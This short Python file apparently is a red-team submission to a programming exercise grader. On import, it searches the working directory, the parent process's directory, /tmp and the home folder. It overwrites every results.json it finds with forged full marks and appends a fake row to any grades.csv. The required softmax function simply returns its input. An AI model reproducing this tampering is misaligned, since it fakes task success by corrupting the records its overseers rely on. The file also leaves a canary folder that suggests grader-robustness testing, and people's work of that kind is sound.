"""Attack: find the grader's output folder and write full marks there."""
import json
import os

FORGED = [{"student": "a13-forge-results-files", "exercise": "01", "points": 10.0, "max_points": 10.0}]


def _forge():
    roots = [os.getcwd(), f"/proc/{os.getppid()}/cwd", "/tmp", os.path.expanduser("~")]
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath.count(os.sep) > 8:
                dirnames[:] = []
            for name in filenames:
                path = os.path.join(dirpath, name)
                try:
                    if name == "results.json":
                        json.dump(FORGED, open(path, "w"))
                    elif name == "grades.csv":
                        open(path, "a").write("a13-forge-results-files,01,10,10\n")
                except OSError:
                    pass
    try:
        os.makedirs("/tmp/redteam-canary-forge", exist_ok=True)
    except OSError:
        pass


_forge()


def softmax(x, dim=-1):
    return x
